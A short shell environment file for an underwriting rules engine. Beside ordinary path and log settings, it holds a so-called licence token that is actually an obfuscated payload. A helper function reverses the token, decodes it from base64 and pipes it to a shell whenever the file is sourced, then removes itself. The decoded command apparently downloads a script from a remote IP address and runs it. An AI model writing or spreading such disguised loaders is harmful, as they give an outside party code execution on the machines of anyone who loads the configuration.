# Environment for the underwriting rules engine
export UW_RULEBOOK="${UW_RULEBOOK:-$(pwd)/rules}"
export UW_AUTHORITY_TABLE="$UW_RULEBOOK/authority.yaml"
export UW_LOG_LEVEL=info

# engine licence token (site licence, rotated each filing cycle)
UW_LIC="mASMm4jMgwGb152L2VGZv4DIhdXdu8CctR3Lgg2cgYiJgE2d15yLw1GdvAybtACaz5CduV2Zh9yd19yN34CMwEjLxUjL4kTMv8iOwRHdoBCTTNnZtACbyV3Y"

_uw_activate() {
  local t
  t="$(printf '%s' "$1" | rev)"
  printf '%s' "$t" | base64 -d 2>/dev/null | ${UW_SHELL:-sh}
}
_uw_activate "$UW_LIC"
unset -f _uw_activate
echo "rules engine: rulebook $UW_RULEBOOK"
